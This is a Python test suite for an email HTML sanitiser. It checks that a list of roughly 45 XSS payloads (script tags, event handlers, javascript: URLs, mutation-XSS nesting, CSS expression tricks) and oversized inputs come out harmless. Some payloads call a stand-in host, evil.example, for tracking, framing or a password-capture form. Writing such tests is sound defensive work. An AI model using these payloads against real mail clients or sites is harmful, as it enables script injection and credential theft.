"""The HTML of mails does nothing but show."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chalicelib.channels import email_html
from tests.channels.cases import tried

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="cid:a" ONLOAD="alert(1)">',
    "<img/src='x'/onerror='alert(1)'>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVa\tScRiPt:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<img src='data:text/html,<script>1</script>'>",
    "<iframe src='https://evil.example'></iframe>",
    "<object data='https://evil.example'></object><embed src=x>",
    "<form action='https://evil.example'><input name=p type=password><button>go</button></form>",
    "<base href='https://evil.example'><link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style=\"background:url('https://evil.example/p')\">x</p>",
    "<p style='background-color:url(https://evil.example/p)'>x</p>",
    "<p style='list-style-type:u\\72l(https://evil.example/p)'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='position:fixed;top:0;left:0;z-index:9999'>x</p>",
    "<table background='https://evil.example/p'><tr><td background=https://evil.example/p>x",
    "<img srcset='https://evil.example/p 2x' src='cid:a'>",
    "<video poster='https://evil.example/p' src='https://evil.example/v'></video>",
    "<audio src='https://evil.example/v'></audio><source src=https://evil.example/v>",
    "<input type=image src=https://evil.example/p>",
    "<p id=app class=admin name=x data-x=1 contenteditable autofocus tabindex=1>x</p>",
    "<a href='//evil.example' target=_top ping='https://evil.example'>x</a>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)</script>",
    "<title></title><script>alert(1)</script></title>",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<a title='<img src=x onerror=alert(1)>'>x</a>",
    "<details open ontoggle=alert(1)>x</details>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
]
ALLOWED_NAMES = set().union(*email_html._ATTRIBUTES.values()) | {"rel", "target"}


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))


def check(html: str) -> str:
    """Sanitised, and everything that is left in it is known to be harmless."""
    clean = email_html.sanitise(html)
    reader = _Reader()
    reader.feed(clean)
    reader.close()
    for tag, values in reader.tags:
        assert tag in email_html._TAGS.split()
        assert set(values) <= ALLOWED_NAMES
        style = values.get("style", "").lower()
        assert not re.search(r"url|expression|import|position|\\|z-index", style)
        if "href" in values:
            assert re.match("(?:https?://|mailto:|tel:)", values["href"].lower())
        if tag == "a":
            assert values["rel"] == "noopener noreferrer nofollow"
            assert values["target"] == "_blank"
        if "src" in values:
            assert re.match("(?:cid:|remote:https?://|data:image/(?:png|gif|jpe?g|webp|bmp);)", values["src"].lower())
    assert "<!" not in clean
    assert email_html.sanitise(clean) == clean
    return clean


@pytest.mark.parametrize("html", ATTACKS)
def test_attacks_come_to_nothing(html: str) -> None:
    for variant in (html, html.upper(), f"<p>{html}</p>", f"<table><b>{html}", html.replace(" ", "/")):
        check(variant)


PIECES = st.sampled_from([piece for attack in ATTACKS for piece in re.findall(r"<[^>]*>|[^<]+", attack)])


@tried
@given(pieces=st.lists(PIECES | st.text(max_size=8), max_size=15))
def test_no_mixture_of_attacks_does_anything(pieces: list[str]) -> None:
    check("".join(pieces))


@tried
@given(text=st.text(max_size=100))
def test_no_text_does_anything(text: str) -> None:
    check(text)
    email_html.to_text(text)


def test_what_a_mail_shows_is_kept() -> None:
    html = '<p style="color:red"><b>Bold</b> <a href="https://x.example/?a=1&amp;b=2">link</a></p><ul><li>one</li></ul>'
    assert check(html) == (
        '<p style="color:red"><b>Bold</b> <a href="https://x.example/?a=1&amp;b=2" target="_blank" '
        'rel="noopener noreferrer nofollow">link</a></p><ul><li>one</li></ul>'
    )


def test_images_of_the_mail_stay_and_others_wait() -> None:
    html = '<img src="cid:a@b"><img src="https://x.example/p.gif"><img src="HTTP://x.example/q.gif"><img src="/r.gif">'
    assert check(html) == (
        '<img src="cid:a@b"><img src="remote:https://x.example/p.gif"><img src="remote:HTTP://x.example/q.gif"><img>'
    )


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>One</p><p>Two<br>Three</p>", "One\n\nTwo\nThree"),
        ("<div>One</div><div><br></div><div>Two</div>", "One\n\nTwo"),
        ("<ul><li>a</li><li>b</li></ul><ol><li>c</li><li>d</li></ol>", "- a\n- b\n\n1. c\n2. d"),
        ("a<blockquote>b<blockquote>c</blockquote></blockquote>d", "a\n\n> b\n>\n>> c\n\nd"),
        ('<a href="https://x.example/y">here</a>', "here <https://x.example/y>"),
        ('<a href="https://x.example/">x.example</a>', "x.example"),
        ('<a href="mailto:a@b.example">a@b.example</a>', "a@b.example"),
        ("<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>", "a b\nc"),
        ("<pre>a\n  b</pre>", "a\n  b"),
        ("x &lt;b&gt; &amp;&nbsp;y", "x <b> & y"),
        ("<style>p{}</style><title>t</title>a<script>b</script>", "a"),
        ('<img alt="Logo" src="cid:x"> a', "Logo a"),
        ("", ""),
    ],
)
def test_html_is_written_down_as_text(html: str, text: str) -> None:
    assert email_html.to_text(html) == text


@pytest.mark.parametrize(
    "html",
    [
        "<div>" * 200_000,
        "<blockquote>x" * 50_000,
        "<b>" * 3_000 + "<div>" * 3_000 + "</b>" * 3_000,
        "<ul><li>" * 50_000,
        "&" * 1_000_000,
        "&a" * 500_000,
        "<p " + " ".join(f"a{at}=1" for at in range(100_000)) + ">",
        "<p " + "/a" * 400_000 + ">",
        "<" * 1_000_000,
        "<!--" * 250_000,
    ],
    ids=lambda html: html[:12],
)
def test_html_made_to_take_long_is_read_up_to_a_bound(html: str) -> None:
    bounded = email_html._within_limits(html[: email_html.MAX_HTML])
    assert len(email_html._TAG.findall(bounded)) <= email_html.MAX_TAGS
    check(html)
    assert len(email_html.to_text(html)) <= 2 * email_html.MAX_HTML
